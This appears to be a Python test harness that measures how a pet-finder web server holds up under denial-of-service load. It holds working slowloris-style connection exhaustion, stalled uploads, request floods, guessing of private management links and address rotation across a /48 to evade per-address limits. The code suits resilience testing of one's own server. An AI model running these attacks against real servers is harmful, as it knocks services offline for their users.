"""What one client does to a server, from one address, from every /64 of one /48, or from sixteen addresses."""
import concurrent.futures
import itertools
import os
import random
import select
import socket
import time

from visitor import destination, flow, form_type, host, jpeg, multipart_type, photo_form, source_socket

# More than a server takes of one address; of a /48 as many as it takes of anybody.
crowd = 10_000


class Target:
    """The server, and the attacker's addresses: one, or as many as there are."""

    def __init__(self, port, page, addresses):
        # `page` is a pet's page.
        self.port, self.page, self.addresses = port, page, addresses

    def connect(self):
        connection = source_socket(next(self.addresses))
        connection.settimeout(30)
        connection.connect(destination(connection.getsockname()[0], self.port))
        return connection


def request(method, path, body=b"", media_type=form_type, length=None):
    fields = f"Host: {host}\r\nContent-Type: {media_type}\r\nContent-Length: {len(body) if length is None else length}\r\n"
    return f"{method} {path} HTTP/1.1\r\n{fields}\r\n".encode() + body


def hold(target, first, reads=True):
    """Keeps many connections open that have sent so much and nothing more, and opens another for each that is closed."""
    poll, members = select.epoll(), {}
    while True:
        for _ in range(min(500, crowd - len(members))):
            member = source_socket(next(target.addresses))
            member.setblocking(False)
            if not reads:
                member.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            member.connect_ex(destination(member.getsockname()[0], target.port))
            members[member.fileno()] = [member, first]
            poll.register(member.fileno(), select.EPOLLOUT | select.EPOLLRDHUP)
        for descriptor, events in poll.poll(0.05, 1000):
            member, rest = members[descriptor]
            try:
                if events & select.EPOLLOUT:
                    members[descriptor][1] = rest = rest[member.send(rest) :] if rest else rest
                    if not rest or not reads:
                        poll.modify(descriptor, select.EPOLLRDHUP | (select.EPOLLIN if reads else 0))
                if events & (select.EPOLLHUP | select.EPOLLERR | select.EPOLLRDHUP):
                    raise OSError("closed")
                if events & select.EPOLLIN and not member.recv(65536):
                    raise OSError("closed")
            except BlockingIOError:
                pass
            except OSError:
                members.pop(descriptor)[0].close()


def repeat(target, make, at_once=8):
    """Sends what `make` returns, on a new connection each time, some at once."""

    def one(_):
        try:
            with target.connect() as connection:
                connection.sendall(make())
                connection.shutdown(socket.SHUT_WR)
                while connection.recv(65536):
                    pass
        except OSError:
            pass

    with concurrent.futures.ThreadPoolExecutor(at_once) as pool:
        while True:
            list(pool.map(one, range(10 * at_once)))


def nothing(target):
    """How long people wait on this machine without an attack."""
    while True:
        time.sleep(60)


def idle(target):
    hold(target, b"")


def half_heads(target):
    hold(target, f"GET / HTTP/1.1\r\nHost: {host}\r\nX-Slow: ".encode())


def stalled_forms(target):
    """The largest form that the server takes, almost whole."""
    hold(target, request("POST", flow + "/chip-number", b"a=" + b"b" * 32_000, length=32_700))


def stalled_bodies(target):
    """Forms that are announced, and of which one byte arrives."""
    hold(target, request("POST", flow + "/chip-number", b"a", length=1000))


def stalled_photos(target):
    hold(target, request("POST", flow + "/photo", photo_form(jpeg(300_000))[:-10], multipart_type, length=9_000_000))


def slow_photos(target):
    """Four photos at once from each of at most 16 addresses, at little more than the least rate; what ends begins again at once."""
    first = request("POST", flow + "/photo", photo_form(jpeg(300_000))[:1000], multipart_type, length=9_000_000)
    senders = {}

    def begin(address):
        sender = source_socket(address)
        sender.connect(destination(address, target.port))
        sender.setblocking(False)
        sender.send(first)
        senders[sender] = address

    for address in set(itertools.islice(target.addresses, 16)):
        for _ in range(4):
            begin(address)
    due = 0
    while True:
        ended = set(select.select(senders, [], [], 0.05)[0])
        if due < time.monotonic():
            due = time.monotonic() + 1
            for sender in senders:
                try:
                    sender.send(b"Rex\n" * 300)
                except BlockingIOError:
                    pass
                except OSError:
                    ended.add(sender)
        for sender in ended:
            sender.close()
            begin(senders.pop(sender))


def stalled_messages(target):
    """Texts of a multipart form, which are kept in memory until its end."""
    text = b'--a\r\nContent-Disposition: form-data; name="note"\r\n\r\n' + b"b" * 32_000
    hold(target, request("POST", target.page + "/message", text, multipart_type, length=33_000))


def unread_pages(target):
    """Pages that show what cannot be accepted again, each quotation mark of it as six bytes, and that nobody reads."""
    hold(target, request("POST", flow + "/description", b"petName=" + b'"' * 32_000), reads=False)


def refused_heads(target):
    repeat(target, lambda: b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n")


def drafts(target):
    text = b"description=" + b"%F0%9F%90%95" * 500 + b"&petName=" + b"%F0%9F%90%88" * 60
    repeat(target, lambda: request("POST", flow + "/description", text))


def photos(target):
    """Each begins a draft too."""
    form = photo_form(jpeg(9_900_000))
    repeat(target, lambda: request("POST", flow + "/photo", form, multipart_type))


def messages(target):
    """Asks one owner for contact details and writes to them, with photos."""
    numbers = itertools.count()

    def make():
        number = next(numbers)
        if number % 3 == 0:
            return request("POST", target.page + "/contact")
        text = f"kind=seen&place={number}".encode()
        if number % 3 == 1:
            return request("POST", target.page + "/message", text)
        parts = b"".join(
            b'--a\r\nContent-Disposition: form-data; name="%b"\r\n\r\n%b\r\n' % (name, value)
            for name, value in ((b"kind", b"seen"), (b"place", b"%d" % number))
        )
        return request("POST", target.page + "/message", parts + photo_form(jpeg(2_000_000)), multipart_type)

    repeat(target, make)


def filters(target):
    """Searches by words, by chip number and through the feed, and looks for private links."""

    def make():
        path = random.choice(("/?place=", "/feed.atom?place=", "/?species=dog&since=30&place=", "/?chip=", "/manage/"))
        return request("GET", path + f"{random.getrandbits(128):032x}"[: 32 if path == "/manage/" else 12])

    repeat(target, make)


attacks = [
    nothing, idle, half_heads, stalled_forms, stalled_bodies, stalled_photos, slow_photos, stalled_messages, unread_pages, refused_heads,
    drafts, photos, messages, filters,
]  # fmt: skip


def addresses(origin):
    """The addresses of an attacker, one after the other."""
    if origin == "16 addresses":
        return itertools.cycle([f"127.20.0.{number}" for number in range(1, 17)])
    if origin == "one address":
        return itertools.repeat("127.20.0.1")
    return (f"2001:db8:7:{number % 65_536:x}::1" for number in itertools.count(random.randrange(65_536)))


def run(attack, port, page, origin):
    """Attacks until the process is ended."""
    os.nice(5)
    attack(Target(port, page, addresses(origin)))
